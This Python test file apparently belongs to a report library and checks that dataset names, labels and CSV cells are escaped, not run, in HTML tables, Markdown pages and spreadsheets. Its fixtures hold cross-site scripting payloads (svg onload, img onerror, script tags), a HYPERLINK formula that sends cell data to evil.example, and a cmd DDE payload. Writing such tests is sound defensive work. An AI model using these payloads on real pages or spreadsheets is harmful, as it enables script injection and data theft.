"""Issue 44: nothing a dataset, a config or a run says runs in a reader's browser. A dataset's name and a
system's label reach Tables 3.1, 4.1, 4.3 and 4.6 (and the PDF printed from them) as text, through the one
escaping layer (inkground_lib.report.escape); on ed2f909 their ``<svg onload=...>`` ran in Chromium."""
import pandas as pd
import pytest

from inkground_lib.report.escape import figure_text, html_attr, html_text, md_escape

DATASET = "<svg onload=alert('dataset')>"
LABEL = "<img src=x onerror=alert('label')>"
SCRIPT = "<script>alert('script')</script>"


def _summary():
    rows = []
    for s, dtw in (("box", 0.287), ("font", 0.299)):
        r = {"dataset": DATASET, "system": s, "label": f"{LABEL} {s}", "kind": "local", "n_words": 12,
             "valid_rate": 1.0, "dtw": dtw, "chamfer": dtw / 2, "ar": 0.5, "cr": 0.6, "style": 0.1, "n_classes": 4}
        for m in ("valid_rate", "dtw", "chamfer", "ar", "cr", "style"):
            r[f"{m}_lo"], r[f"{m}_hi"] = r[m] - 0.01, r[m] + 0.01
        r["chance"] = 0.25
        rows.append(r)
    return pd.DataFrame(rows)


def _tables() -> dict[str, str]:
    """The HTML of Tables 3.1, 4.1, 4.3 and 4.6 as the notebooks make them, from hostile names."""
    from inkground_lib.analysis.tradeoffs import (
        Variant,
        kendall_table,
        paper_points,
        point_values,
        rank_table,
        style_chance_table,
    )
    from inkground_lib.core.paper import paper_numbers
    from inkground_lib.report.evaluation import systems_view
    from inkground_lib.report.tradeoffs import points_view, style_view, taus_view

    rep = paper_numbers()
    summ = _summary()
    scores = pd.DataFrame({"system": ["box", "font"] * 3, "dataset": DATASET, "page_id": ["p1", "p1", "p2", "p2", "p3", "p3"],
                           "word_id": [f"w{i}" for i in range(6)], "valid": True, "dtw": [0.1, 0.2, 0.3, 0.1, 0.2, 0.4]})
    vs = [Variant("dtw", "default", point_values(scores, "dtw"), default=True),
          Variant("dtw", "valid outputs only", point_values(scores, "dtw", valid_only=True))]
    registry = {"box": {"adapter": "box", "label": LABEL, "model": SCRIPT, "sampling": DATASET}}
    return {"3.1": systems_view(["box"], f"Table 3.1: {SCRIPT}", registry).to_html(),
            "4.1": points_view(summ, paper_points(rep), rep, "Table 4.1: scores").to_html(),
            "4.3": style_view(style_chance_table(summ, rep), "Table 4.3: Style").to_html(),
            "4.6": taus_view(kendall_table({DATASET: rank_table(vs)}), "Table 4.6: taus").to_html()}


def test_names_and_labels_are_text_in_every_table():
    for table, html in _tables().items():
        for raw in (DATASET, LABEL, SCRIPT):
            assert raw not in html, (table, raw)
        assert "&lt;svg onload=alert" in html or "&lt;img src=x" in html, table


@pytest.mark.browser
def test_no_script_of_a_hostile_name_runs_in_chromium_or_while_printing(tmp_path):
    from browser_checks import browser, scripts_that_ran

    page = tmp_path / "tables.html"
    page.write_text("<!doctype html><html><head><meta charset='utf-8'><title>tables</title></head><body><main>"
                    + "".join(_tables().values()) + "</main></body></html>", "utf-8")
    with browser() as b:
        assert scripts_that_ran(b, page, "tables") == []
        # the check itself: the same names, unescaped, do run
        bare = tmp_path / "bare.html"
        bare.write_text(f"<!doctype html><html><body>{DATASET}{LABEL}</body></html>", "utf-8")
        assert len(scripts_that_ran(b, bare, "bare")) == 2


def test_a_cell_that_is_markdown_shows_as_text_in_its_footnote():
    """A long cell repeated becomes a footnote (Markdown): its text is escaped there too."""
    from inkground_lib.report.table_view import table_view

    t = pd.DataFrame({"why": ["— not run: *emphasis* <b>bold</b> `code` x" * 2] * 2})
    html = table_view(t, "Table: x").to_html()
    assert "<em>" not in html and "<b>" not in html and "<code>" not in html.split("</figcaption>")[1]


@pytest.mark.parametrize("value", [DATASET, LABEL, SCRIPT, 'a" onclick="x', "{raw}`html` $x$ [a](javascript:x)"])
def test_the_escaping_layer(value):
    assert "<" not in html_text(value) and html_attr(value).count('"') == 2
    from markdown_it import MarkdownIt
    rendered = MarkdownIt("commonmark").renderInline(md_escape(value))
    assert "<" not in rendered.replace("&lt;", "") and "href" not in rendered
    assert figure_text(value).count("$") == figure_text(value).count(r"\$")


def test_figure_text_draws_dollars_as_they_are():
    """A word like "$5$" is drawn as it is, not as math (and "$\\frac$" no longer stops a figure)."""
    import matplotlib
    matplotlib.use("Agg")
    import matplotlib.pyplot as plt

    fig, ax = plt.subplots()
    try:
        ax.set_title(figure_text(r"$\frac$"))
        fig.canvas.draw()
    finally:
        plt.close(fig)


def test_a_words_formula_is_inert_in_the_scores_csv_and_reads_back_exactly(tmp_path):
    """Issue 44: a word's text ``=HYPERLINK(...)`` began a cell of the archive's scores CSV on ed2f909 (a formula
    in a reviewer's spreadsheet); now it is written behind a quote and read back as it was."""
    from types import SimpleNamespace

    from inkground_lib.core.run_loaders import load_eval_run
    from inkground_lib.core.scores_table import scores_frame
    from inkground_lib.evaluation.run import _write_result
    from inkground_lib.evaluation.settings import EvalSettings

    texts = ['=HYPERLINK("http://evil.example/?"&A1,"click")', "-", "+1", "@SUM(A1)", "'=x", "'tis", "plain"]
    scores = scores_frame([{"system": "box", "dataset": "d", "page_id": "p", "word_id": f"w{i}", "text": t,
                            "ocr_text": t, "valid": True, "dtw": -0.5 if i == 0 else 0.1, "chamfer": 0.1}
                           for i, t in enumerate(texts)])
    res = SimpleNamespace(scores=scores, summary=pd.DataFrame({"system": ["=cmd|' /C calc'!A0"], "dtw": [-1.5]}),
                          dataset="d", style={}, targets={}, unavailable={})
    _write_result(tmp_path, res, tmp_path, "synth", EvalSettings())
    import csv
    with open(tmp_path / "scores-reference.csv", newline="") as f:
        cells = [c for row in csv.DictReader(f) for k, c in row.items() if k in ("text", "ocr_text")]
    assert cells and not any(c.startswith(("=", "+", "-", "@")) for c in cells), cells
    assert "-0.5" in (tmp_path / "scores-reference.csv").read_text()  # a number stays a number
    run = load_eval_run(tmp_path)
    assert list(run.scores["text"]) == texts and list(run.scores["ocr_text"]) == texts
    assert run.summary["system"].tolist() == ["=cmd|' /C calc'!A0"] and run.summary["dtw"].tolist() == [-1.5]


def _myst_html(markdown: str) -> str:
    """Markdown rendered as MyST does it (markdown-it with raw HTML on, tables)."""
    from markdown_it import MarkdownIt
    return MarkdownIt("commonmark", {"html": True}).enable("table").render(markdown)


def test_the_reproducibility_page_shows_hostile_names_and_parameters_as_text(tmp_path):
    """Issue 44: a dataset's name was written into the page's Markdown table as it is, and a parameter's value
    holding backticks ended its code span (then its HTML was markup)."""
    import json

    from inkground_lib.publish.parameters_cell import all_section_defaults
    from inkground_lib.report.reproducibility import write_reproducibility_page

    nb = {"cells": [], "metadata": {"inkground": {"section": "04_tradeoffs", "fingerprint": "ab" * 32},
                                    "papermill": {"parameters": {"label": f"`{LABEL}`|x"}}}}
    (tmp_path / "04.ipynb").write_text(json.dumps(nb))
    page = write_reproducibility_page(tmp_path / "r.md", [tmp_path / "04.ipynb"],
                                      {DATASET: {"kind": SCRIPT, "pages": 1, "words": 2, "hash": "c" * 64}},
                                      defaults=all_section_defaults(), built_at="2026-12-01 00:00 UTC",
                                      commit="`abc1234`", root=tmp_path)
    html = _myst_html(page.read_text())
    assert "<svg" not in html and "<img" not in html and "<script" not in html, html
    assert "&lt;svg onload=alert" in html and "&lt;img src=x" in html


def test_md_code_keeps_any_text_inside_its_span():
    from inkground_lib.report.escape import md_code
    for text in (f"`{LABEL}`", "``", "a`b``c", "|", " x "):
        html = _myst_html(f"see {md_code(text)} here")
        assert html.count("<code>") == 1 and "<img" not in html, html
